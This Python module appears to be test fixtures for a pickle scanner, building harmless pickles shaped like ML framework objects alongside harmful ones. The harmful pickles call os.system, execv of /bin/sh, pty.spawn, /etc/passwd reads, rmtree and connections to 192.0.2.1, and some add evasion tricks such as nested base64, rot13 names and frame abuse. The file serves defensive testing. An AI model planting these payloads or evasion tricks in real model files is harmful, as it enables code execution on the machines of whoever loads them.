"""Pickles of many kinds, each a named shape or trick, written opcode by opcode.

None of them is ever loaded, and what they name need not be installed.
"""

from __future__ import annotations

import base64
import pickle
import struct
from itertools import chain
from typing import TYPE_CHECKING

from tests.formats.samples import TORCH_DATA, joblib_array

if TYPE_CHECKING:
    from collections.abc import Callable


class Raw(bytes):
    """Opcodes that push a value, to be put where it stands."""

    __slots__ = ()


_AROUND = {list: (b"](", b"e"), tuple: (b"(", b"t"), dict: (b"}(", b"u")}


def put(value: object) -> bytes:
    """Return the opcodes that push a value, protocol 2."""
    if isinstance(value, Raw):
        return value
    if isinstance(value, list | tuple | dict):
        items = chain.from_iterable(value.items()) if isinstance(value, dict) else value
        begin, end = _AROUND[type(value)]
        return begin + b"".join(map(put, items)) + end
    if isinstance(value, str):
        return b"X" + struct.pack("<L", len(value.encode())) + value.encode()
    if isinstance(value, bytes):
        return b"B" + struct.pack("<L", len(value)) + value
    return pickle.dumps(value, 2)[2:-1]


def name(path: str) -> Raw:
    """Return the opcode that imports `module:attribute`."""
    module, attribute = path.split(":")
    return Raw(f"c{module}\n{attribute}\n".encode())


def call(path: str | Raw, *arguments: object) -> Raw:
    """Return the opcodes of a call."""
    function = path if isinstance(path, Raw) else name(path)
    return Raw(function + put(arguments) + b"R")


def made(path: str, state: object) -> Raw:
    """Return the opcodes of an object that is made and given its attributes."""
    return Raw(name(path) + b")\x81" + put(state) + b"b")


def whole(value: object, *, protocol: int = 2) -> bytes:
    """Return a whole pickle."""
    return b"\x80" + bytes([protocol]) + put(value) + b"."


# Harmless ---------------------------------------------------------------------------------------


def array(dtype: str = "f8", data: bytes = bytes(16), core: str = "numpy.core") -> Raw:
    """Return the opcodes of a NumPy array of one dimension."""
    kind = Raw(
        call("numpy:dtype", dtype, False, True)  # noqa: FBT003 - NumPy's
        + put((3, "<", None, None, None, -1, -1, 0))
        + b"b"
    )
    empty = call(f"{core}.multiarray:_reconstruct", name("numpy:ndarray"), (0,), b"b")
    return Raw(empty + put((1, (len(data) // int(dtype[1:]),), kind, False, data)) + b"b")


def harmless() -> dict[str, bytes]:
    """Return pickles as the frameworks write them, by name."""
    tree = {"max_depth": 3, "tree_": None, "classes_": array("i8"), "_sklearn_version": "1.5.0"}
    linear = {"C": 1.0, "coef_": array(), "intercept_": array(core="numpy._core"), "n_iter_": 7}
    forest = made("sklearn.ensemble._forest:RandomForestClassifier", {"estimators_": []})
    scaler = made("sklearn.preprocessing._data:StandardScaler", {"mean_": array()})
    regression = made("sklearn.linear_model._logistic:LogisticRegression", linear)
    shapes = {
        "numbers": [1, 2.5, None, True, 1 << 70],
        "texts": {"a": "b", "tags": ["c", "d"]},
        "ordered-dict": call("collections:OrderedDict"),
        "default-dict": call("collections:defaultdict", name("__builtin__:list")),
        "datetime": call("datetime:date", b"\x07\xea\x01\x01"),
        "decimal": call("decimal:Decimal", "1.5"),
        "set": call("__builtin__:set", [1, 2]),
        "complex": call("__builtin__:complex", 1.0, 2.0),
        "latin-1": call("_codecs:encode", "abc", "latin1"),
        "array": array(),
        "array-new": array(core="numpy._core"),
        "array-ints": array("i4"),
        "scalar": call("numpy.core.multiarray:scalar", call("numpy:dtype", "f8", 0, 1), b"\0" * 8),
        "sklearn-linear": regression,
        "sklearn-tree": made("sklearn.tree._classes:DecisionTreeClassifier", tree),
        "sklearn-forest": forest,
        "sklearn-pipeline": made(
            "sklearn.pipeline:Pipeline", {"steps": [("scale", scaler), ("fit", regression)]}
        ),
        "sparse": made("scipy.sparse._csr:csr_matrix", {"_shape": (2, 2), "data": array()}),
        "xgboost": made("xgboost.core:Booster", {"handle": b"binf"}),
        "lightgbm": made("lightgbm.basic:Booster", {"params": {}, "handle": "tree"}),
    }
    found = {key: whole(value) for key, value in shapes.items()}
    found |= {
        f"numbers-{protocol}": pickle.dumps([[1, 2], {"a": 1.5}], protocol) for protocol in range(6)
    }
    found["nested-lists"] = pickle.dumps([[n, n + 1, 1.5] for n in range(300)], 4)
    found["two-pickles"] = pickle.dumps([1], 2) + pickle.dumps([2], 4)
    return found | {"torch-data": TORCH_DATA, "joblib-array": joblib_array()}


# Harmful ----------------------------------------------------------------------------------------

CALLS: dict[str, tuple[object, ...]] = {
    "posix:system": ("id",),
    "nt:system": ("dir",),
    "os:popen": ("id",),
    "os:execv": ("/bin/sh", ["sh"]),
    "subprocess:Popen": (["id"],),
    "subprocess:check_output": ("id",),
    "__builtin__:eval": ("1",),
    "builtins:exec": ("import os",),
    "builtins:compile": ("1", "a", "eval"),
    "builtins:__import__": ("os",),
    "builtins:open": ("/etc/passwd",),
    "importlib:import_module": ("os",),
    "runpy:run_path": ("/srv/a.py",),
    "pty:spawn": ("/bin/sh",),
    "socket:create_connection": (("192.0.2.1", 80),),
    "webbrowser:open": ("http://192.0.2.1/",),
    "urllib.request:urlopen": ("http://192.0.2.1/",),
    "shutil:rmtree": ("/srv/a",),
    "ctypes:CDLL": ("/srv/a.so",),
    "code:InteractiveInterpreter": (),
    "timeit:timeit": ("import os",),
    "pickle:loads": (b"cposix\nsystem\n.",),
    "numpy:load": ("/srv/a.npy",),
    "torch:load": ("/srv/a.pt",),
    "joblib:load": ("/srv/a.joblib",),
    "pip:main": (["install", "a"],),
    "bdb:Bdb": (),
    "cProfile:run": ("import os",),
    "pydoc:pipepager": ("a", "id"),
    "asyncio.unix_events:_UnixSubprocessTransport._start": (),
    "torch._inductor.codecache:compile_file": ("a", "b", ["id"]),
    "idlelib.pyshell:ModifiedInterpreter.runcommand": ("import os",),
}
"""What an attacker calls, and with what."""


def _text(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _by_stack(path: str, arguments: bytes) -> bytes:
    module, attribute = path.split(":")
    return b"\x80\x04" + _text(module) + _text(attribute) + b"\x93" + arguments + b"R."


def _by_memo(path: str, arguments: bytes) -> bytes:
    module, attribute = path.split(":")
    texts = b"](" + _text(module) + b"\x94" + _text(attribute) + b"\x940e0"
    return b"\x80\x04" + texts + b"h\0h\1\x93" + arguments + b"R."


def _by_instance(path: str, arguments: bytes) -> bytes:
    module, attribute = path.split(":")
    inner = arguments.removeprefix(b"(").removesuffix(b"t")
    return b"(" + inner + f"i{module}\n{attribute}\n.".encode()


FORMS: dict[str, Callable[[str, bytes], bytes]] = {
    "reduce": lambda path, arguments: b"\x80\x02" + name(path) + arguments + b"R.",
    "newobj": lambda path, arguments: b"\x80\x02" + name(path) + arguments + b"\x81.",
    "newobj-ex": lambda path, arguments: b"\x80\x04" + name(path) + arguments + b"}\x92.",
    "stack": _by_stack,
    "memo": _by_memo,
    "instance": _by_instance,
    "object": lambda path, arguments: b"(" + name(path) + arguments[1:-1] + b"o.",
    "dropped": lambda path, arguments: b"\x80\x02" + name(path) + arguments + b"R0N.",
    "without-stop": lambda path, arguments: b"\x80\x02" + name(path) + arguments + b"R",
    "second": lambda path, arguments: b"\x80\x02N.\x80\x02" + name(path) + arguments + b"R.",
    "by-two": lambda path, arguments: b"\x80\x02" + name(path) + b"2" + arguments + b"R\x86.",
    "in-a-model": lambda path, arguments: whole(
        made("sklearn.svm._classes:SVC", {"C": 1.0, "kernel": Raw(name(path) + arguments + b"R")})
    ),
    "in-a-run": lambda path, arguments: (
        b"\x80\x04]\x94(" + b"]\x94(K\1K\2e" * 40 + name(path) + arguments + b"Re."
    ),
}
"""How the call is written."""


def harmful(*, all_forms: bool = False) -> dict[str, bytes]:
    """Return pickles that do harm, by the name of the trick.

    Args:
        all_forms: Whether each call is written in each form; else the forms take turns.
    """
    found = {}
    for at, (path, arguments) in enumerate(CALLS.items()):
        for turn, (form, write) in enumerate(FORMS.items()):
            if all_forms or turn == at % len(FORMS):
                label = path.replace(":", ".")
                found[f"{label}-{form}"] = write(path, put(arguments))
    return found | tricks()


def tricks() -> dict[str, bytes]:
    """Return pickles whose harm is not in the name of what they call, by the trick."""
    inner = whole(call("posix:system", "id"))
    system = call("builtins:getattr", call("builtins:__import__", "os"), "system")
    return {
        "attribute-walk": whole(call(system, "id")),
        "dotted-name": _by_stack("builtins:eval.__call__", put(("1",))),
        "partial": whole(call(call("functools:partial", name("posix:system"), "id"))),
        "method-caller": whole(
            call(call("operator:methodcaller", "system", "id"), name("os:path"))
        ),
        "map": whole(call("builtins:list", call("builtins:map", name("posix:system"), ["id"]))),
        "state-of-a-global": b"\x80\x02cos\nenviron\n" + put({"PATH": "/srv"}) + b"b.",
        "state-of-a-module": b"\x80\x02csys\nmodules\n" + put({"numpy": None}) + b"b.",
        "items-of-a-global": b"\x80\x02csys\nmodules\n(" + put("numpy") + b"Nu.",
        "setstate": whole(made("collections:OrderedDict", {"__setstate__": name("posix:system")})),
        "nested-bytes": whole(call("_pickle:loads", inner)),
        "nested-base64": whole({"a": base64.b64encode(inner).decode()}),
        "behind-junk": pickle.dumps([1]) + b"junk" * 9 + inner,
        "escaped-name": b"V\\u0070osix\nVsystem\n\x93(V" + b"id\ntR.",
        "codec": whole(call("_codecs:decode", b"cbfvk", "rot13")),
        "extension": b"\x80\x02\x82\x01)R.",
        "persistent": b"\x80\x02" + put("id") + b"Q)R.",
        "frame-beyond-stop": b"\x80\x04\x95\x40\0\0\0\0\0\0\0N." + inner,
        "frame-in-frame": b"\x80\x04\x95\x20\0\0\0\0\0\0\0\x95\x02\0\0\0\0\0\0\0" + inner[2:],
        "unresolved-name": b"\x80\x04K\1" + _text("system") + b"\x93)R.",
    }
